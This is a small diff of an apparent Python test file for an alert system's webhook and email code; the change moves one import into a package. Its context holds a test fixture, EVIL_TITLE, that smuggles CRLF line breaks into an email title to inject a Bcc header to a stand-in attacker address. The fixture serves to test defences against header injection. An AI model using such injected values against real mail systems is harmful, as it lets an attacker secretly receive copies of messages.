@@ -14,10 +14,10 @@ from urllib.parse import parse_qs, urlsplit
 from sqlalchemy import Engine, select
 from sqlalchemy.orm import Session
 
-import cli
 from alerts.webhooks import dingtalk_sign, payload
 from storage.models import OutboxMessage
 from tests.alerts.conftest import SmtpServer, WebhookServer, add_incident, add_post, bj, iso
+from yuqing import cli
 
 EVIL_TITLE = "塔吊倒塌\r\nBcc: evil@attacker.example\r\nX-Evil: 1\n\nbody"
 
